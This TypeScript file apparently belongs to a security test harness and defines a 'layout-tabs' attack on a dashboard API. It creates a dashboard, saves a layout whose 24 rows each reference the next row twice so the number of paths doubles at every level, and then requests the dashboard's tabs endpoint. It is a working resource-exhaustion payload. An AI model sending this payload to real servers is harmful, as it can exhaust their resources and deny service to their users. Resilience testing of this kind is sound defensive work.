import type { Attack } from '../attack.ts';

const rows = 24;

/** Returns layout rows that each reference the next row twice, so that the number of paths doubles with every level. */
const doubling = (): Record<string, unknown> =>
  Object.fromEntries([
    ['ROOT_ID', { id: 'ROOT_ID', type: 'ROOT', children: ['ROW-0'] }],
    ...Array.from({ length: rows }, (_, at) => [
      `ROW-${at}`,
      { id: `ROW-${at}`, type: 'ROW', children: [`ROW-${at + 1}`, `ROW-${at + 1}`] },
    ]),
    [`ROW-${rows}`, { id: `ROW-${rows}`, type: 'ROW', children: [] }],
  ]);

/** An attack that saves a layout whose number of paths doubles with every level, and then reads its tabs. */
export const layoutTabs: Attack = {
  name: 'layout-tabs',
  what: `tabs of ${rows} rows that each name the next one twice`,
  prepare: async ({ attacker }) => {
    const { id } = await attacker.lay<{ readonly id: number }>({
      method: 'POST',
      path: '/api/v1/dashboard/',
      body: { dashboard_title: 'doubling' },
    });
    const body = { position_json: JSON.stringify(doubling()) };
    return async () => [
      await attacker.send({ method: 'PUT', path: `/api/v1/dashboard/${id}`, body }),
      await attacker.send({ method: 'GET', path: `/api/v1/dashboard/${id}/tabs` }),
    ];
  },
};
